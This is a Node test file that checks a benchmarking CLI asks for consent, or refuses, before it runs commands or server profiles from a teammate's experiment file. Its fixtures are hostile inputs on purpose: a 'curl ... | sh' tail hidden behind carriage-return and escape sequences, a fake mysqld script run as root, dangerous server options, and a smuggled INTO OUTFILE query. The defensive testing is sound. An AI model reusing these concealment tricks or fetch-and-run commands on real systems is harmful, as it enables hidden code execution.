// Teammates' files on the command line (issue 6, point 4): `varlab run` of a file whose commands go
// beyond the built-in tunables asks first; with no terminal it refuses, names --trust and runs nothing.
// The target is a closed port on 127.0.0.1: if anything tried to run, it would fail differently.
import { after, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { ExperimentDoc, ServerProfile } from '../../src/common/experiment/types.js';
import { headerRecord } from '../../src/node/engine/journal.js';
import { CLI } from '../fixtures/cli.js';

const dir = mkdtempSync(join(tmpdir(), 'varlab-consent-'));
const home = join(dir, 'home');
mkdirSync(home);
const marker = join(dir, 'ran');
// Port 1 on 127.0.0.1: nothing listens there, so a run that got past the consent fails to connect.
const TARGET = 'ssh://root@127.0.0.1:1';
after(() => rmSync(dir, { recursive: true, force: true }));

function varlab(args: string[], varlabHome = home): Promise<{ code: number | null; stderr: string; stdout: string }> {
  return new Promise((resolve) => {
    // stdin is not a terminal: nobody can answer a question.
    const child = spawn(process.execPath, [...CLI, ...args], { env: { ...process.env, VARLAB_HOME: varlabHome }, stdio: ['ignore', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d: Buffer) => (stdout += d));
    child.stderr.on('data', (d: Buffer) => (stderr += d));
    child.on('close', (code) => resolve({ code, stdout, stderr }));
  });
}

const profile: ServerProfile = {
  kind: 'direct',
  mysqld: '/usr/sbin/mariadbd',
  datadir: join(dir, 'data'),
  socket: join(dir, 'mysqld.sock'),
  port: 23456,
  user: 'root',
  extraArgs: ['--skip-log-bin'],
  sudo: false,
};

function experiment(name: string, edit: (doc: ExperimentDoc) => void): string {
  const doc = JSON.parse(readFileSync('examples/quickstart.varlab.json', 'utf8')) as ExperimentDoc;
  doc.design.target = TARGET;
  doc.design.serverProfile = { ...profile, target: TARGET };
  edit(doc);
  const path = join(dir, `${name}.varlab.json`);
  writeFileSync(path, JSON.stringify(doc, null, 2));
  return path;
}

const journalOf = (file: string) => file.replace(/\.json$/, '') + '.journal.jsonl';

test("a teammate's custom command without a terminal: exit 2, the command listed, --trust named, nothing run", { timeout: 180_000 }, async () => {
  const file = experiment('teammate', (doc) => {
    doc.design.workload = { ...doc.design.workload, kind: 'command', queries: [], command: { line: `touch ${marker}`, parser: 'regex', regex: '(\\d+)', metric: 'n', unit: 'n', higherIsBetter: true } };
  });
  const r = await varlab(['run', file]);
  assert.equal(r.code, 2, r.stderr);
  assert.match(r.stderr, /would run these on ssh:\/\/root@127\.0\.0\.1:1, beyond varlab's built-in tunables/);
  assert.ok(r.stderr.includes(`touch ${marker}`), r.stderr);
  assert.match(r.stderr, /--skip-log-bin/, 'the server options are listed too');
  assert.match(r.stderr, /run again with --trust/);
  assert.doesNotMatch(r.stderr, /connect|ECONNREFUSED/i, 'the target was never tried');
  assert.equal(existsSync(journalOf(file)), false, 'no journal: nothing started');
  assert.equal(existsSync(marker), false);
  assert.equal(existsSync(join(home, 'consent.json')), false, 'no consent recorded');

  // A dry run lists them too, and agrees to nothing; nor does it connect to the host the file names, unasked.
  const dry = await varlab(['run', file, '--dry-run']);
  assert.ok(dry.stdout.startsWith(`${file} would run these on ssh://root@127.0.0.1:1, beyond varlab's built-in tunables (not agreed to yet: \`varlab run\` asks before it runs them):\n`), dry.stdout);
  assert.ok(dry.stdout.includes(`touch ${marker}`), dry.stdout);
  assert.match(dry.stdout, /did not connect to ssh:\/\/root@127\.0\.0\.1:1, the host the file names/);
  assert.doesNotMatch(dry.stderr, /connection refused/);
  // Asked for (--connect): it connects, and the closed port is said with the host.
  const asked = await varlab(['run', file, '--dry-run', '--connect']);
  assert.equal(asked.code, 2, asked.stderr);
  assert.match(asked.stderr, /the dry run could not read ssh:\/\/root@127\.0\.0\.1:1 .*connection refused/);
  assert.equal(existsSync(join(home, 'consent.json')), false, 'a dry run records no consent');
  assert.equal(existsSync(marker), false);

  // --trust agrees for this file and target: the run goes on (and fails at the closed port, later).
  const trusted = await varlab(['run', file, '--trust']);
  assert.match(trusted.stderr, /--trust: agreed to them for ssh:\/\/root@127\.0\.0\.1:1/);
  assert.notEqual(trusted.code, 0);
  assert.match(trusted.stderr, /127\.0\.0\.1/);
  // It failed before its first restart: it says nothing was measured, not that measurements are kept to resume.
  assert.match(trusted.stderr, /failed after 0 of \d+ restarts: .*connection refused/);
  assert.match(trusted.stderr, /nothing was measured; run the same command again to try again/);
  assert.doesNotMatch(trusted.stderr, /measurements so far/);
  assert.equal(existsSync(join(home, 'consent.json')), true);
  // Agreed once: the same file on the same target no longer asks.
  const again = await varlab(['run', file]);
  assert.doesNotMatch(again.stderr, /--trust/);
  // Another target is another host: asked again (there, the file's profile is not used: one is registered for it).
  writeFileSync(join(home, 'profiles.json'), JSON.stringify({ 'ssh://root@127.0.0.1:2': profile }));
  const elsewhere = await varlab(['run', file, '--target', 'ssh://root@127.0.0.1:2']);
  assert.equal(elsewhere.code, 2, elsewhere.stderr);
  assert.match(elsewhere.stderr, /run again with --trust/);
  assert.equal(existsSync(marker), false);
});

test('the quickstart and a file holding the profile registered for its target need no consent', { timeout: 120_000 }, async () => {
  const builtIn = experiment('builtin', (doc) => delete doc.design.serverProfile);
  writeFileSync(join(home, 'profiles.json'), JSON.stringify({ [TARGET]: profile }));
  const own = experiment('own', () => {});
  for (const file of [builtIn, own]) {
    const r = await varlab(['run', file]);
    assert.doesNotMatch(r.stderr, /--trust|built-in tunables/, r.stderr);
    assert.notEqual(r.code, 0, 'it fails at the closed port, past the consent');
  }
});

/** A varlab home of its own (no consent given, no profile registered unless `profiles` says so). */
function freshHome(name: string, profiles?: Record<string, ServerProfile>): string {
  const h = join(dir, `home-${name}`);
  mkdirSync(h);
  if (profiles) writeFileSync(join(h, 'profiles.json'), JSON.stringify(profiles));
  return h;
}

/** Past the consent, a run reaches for the closed port and fails there; before it, nothing was tried. */
const neverTried = (stderr: string) => assert.doesNotMatch(stderr, /ECONNREFUSED|connection refused|cannot (connect|reach)|reconnect/i, stderr);

test('a `variable` factor that sets user, init_file or plugin_load_add is refused before anything runs, even with --trust', { timeout: 120_000 }, async () => {
  const h = freshHome('variables', { [TARGET]: profile });
  for (const [name, level] of [['user', 'root'], ['init_file', 'init.sql'], ['plugin_load_add', 'ha_connect'], ['skip_grant_tables', 'ON'], ['bind_address', '0.0.0.0']]) {
    const file = experiment(`var-${name}`, (doc) => {
      delete doc.design.serverProfile;
      doc.design.factors.push({ tunable: 'variable', name, levels: [level] });
    });
    const r = await varlab(['run', file, '--trust'], h);
    assert.equal(r.code, 2, r.stderr);
    assert.match(r.stderr, new RegExp(`design\\.factors\\[4\\]\\.name: factor design\\.factors\\[4\\] \\("${name}"\\): the server option ${name} may not be set by a factor`));
    neverTried(r.stderr);
    assert.equal(existsSync(journalOf(file)), false, `${name}: nothing started`);
    // validate says the same, so a teammate learns it before sending the file.
    const v = await varlab(['validate', file], h);
    assert.equal(v.code, 2);
    assert.match(v.stderr + v.stdout, new RegExp(`the server option ${name} may not be set by a factor`));
  }
  assert.equal(existsSync(join(h, 'consent.json')), false, 'no consent was recorded for a refused file');
});

test("a file's own server profile (a script named mysqld, a datadir elsewhere, root) is shown whole and not used without consent; a registered one is preferred", { timeout: 120_000 }, async () => {
  const hostile: ServerProfile = {
    target: TARGET,
    kind: 'direct',
    mysqld: join(dir, 'evil', 'mysqld'),
    datadir: '/var/lib/mysql',
    socket: '/run/mysqld/mysqld.sock',
    port: 3306,
    osUser: 'root',
    user: 'root',
    errorLog: '/etc/motd',
    pidFile: '/run/mysqld/mysqld.pid',
    extraArgs: [],
    sudo: true,
  };
  mkdirSync(join(dir, 'evil'), { recursive: true });
  writeFileSync(join(dir, 'evil', 'mysqld'), `#!/bin/sh\ntouch ${marker}\n`, { mode: 0o755 });
  const file = experiment('hostile-profile', (doc) => (doc.design.serverProfile = hostile));
  const h = freshHome('profile');
  const r = await varlab(['run', file], h);
  assert.equal(r.code, 2, r.stderr);
  for (const part of [`mysqld: ${hostile.mysqld}`, 'run as OS user: root, through sudo', 'datadir: /var/lib/mysql', 'error log: /etc/motd', 'pid file: /run/mysqld/mysqld.pid', 'port: 3306']) assert.ok(r.stderr.includes(part), `${part}\n${r.stderr}`);
  assert.match(r.stderr, /the server profile carried in the file/);
  assert.match(r.stderr, /run again with --trust/);
  neverTried(r.stderr);
  assert.equal(existsSync(marker), false);

  // A datadir with .. is refused outright, consent or not: as a file that is not valid, naming the field (as validate does).
  const dotdot = experiment('dotdot-profile', (doc) => (doc.design.serverProfile = { ...hostile, mysqld: '/usr/sbin/mariadbd', datadir: `${dir}/sandbox/../../var/lib/mysql` }));
  const refused = await varlab(['run', dotdot, '--trust'], h);
  assert.equal(refused.code, 2, refused.stderr);
  assert.match(refused.stderr, /design\.serverProfile\.datadir: expected an absolute path without control characters or \.\./);
  assert.equal(existsSync(join(h, 'consent.json')), false);

  // With a profile registered for the target, the file's is never used, so it is not asked about.
  const registered = freshHome('profile-registered', { [TARGET]: profile });
  const own = await varlab(['run', file], registered);
  assert.doesNotMatch(own.stderr, /--trust|evil/, own.stderr);
  assert.notEqual(own.code, 0, 'it fails at the closed port, past the consent');
  assert.equal(existsSync(marker), false);
});

test('the consent text shows a carriage return and an escape sequence visibly, and a long command in full', { timeout: 120_000 }, async () => {
  const tail = 'curl http://example.invalid/payload | sh';
  const line = `sysbench oltp_read_only run # ${'x'.repeat(500)}\r\x1b[2K\x1b[1Asysbench oltp_read_only run; ${tail}`;
  const file = experiment('hidden', (doc) => {
    delete doc.design.serverProfile;
    doc.design.workload = { ...doc.design.workload, kind: 'command', queries: [], command: { line, parser: 'sysbench', metric: 'tps', unit: 'tps', higherIsBetter: true } };
  });
  const r = await varlab(['run', file], freshHome('hidden', { [TARGET]: profile }));
  assert.equal(r.code, 2, r.stderr);
  assert.ok(r.stderr.includes(`${'x'.repeat(500)}\\u000d\\u001b[2K\\u001b[1Asysbench oltp_read_only run; ${tail}`), r.stderr);
  assert.doesNotMatch(r.stderr, /[\r\x1b]/, 'no raw carriage return or escape reaches the terminal');
  assert.doesNotMatch(r.stderr, /characters in all|…/, 'nothing is cut');
});

test("an unfinished journal of another design beside a harmless file is asked about as a design of its own", { timeout: 120_000 }, async () => {
  // The harmless file: the quickstart as shipped (nothing to agree to), its profile registered.
  const file = experiment('harmless', (doc) => delete doc.design.serverProfile);
  const h = freshHome('journal', { [TARGET]: profile });
  // Its journal, shipped beside it: the same cells, one query more that writes a file on the target.
  const swapped = JSON.parse(readFileSync(file, 'utf8')) as ExperimentDoc;
  swapped.design.workload.queries.push({ name: 'Q99', sql: `SELECT * FROM lineitem INTO OUTFILE '${marker}'` });
  writeFileSync(journalOf(file), JSON.stringify(headerRecord(swapped.design)) + '\n');

  const asked = await varlab(['run', file], h);
  assert.equal(asked.code, 2, asked.stderr);
  assert.match(asked.stderr, /the design changed since its unfinished run started/);
  const resumed = await varlab(['run', file, '--resume'], h);
  assert.equal(resumed.code, 2, resumed.stderr);
  assert.match(resumed.stderr, /the design of the unfinished run in .*harmless\.varlab\.journal\.jsonl, which differs from the file's: asked about as a design of its own/);
  assert.ok(resumed.stderr.includes(`INTO OUTFILE '${marker}'`), resumed.stderr);
  assert.match(resumed.stderr, /run again with --trust/);
  neverTried(resumed.stderr);
  assert.equal(existsSync(marker), false);
  assert.equal(existsSync(join(h, 'consent.json')), false);
});
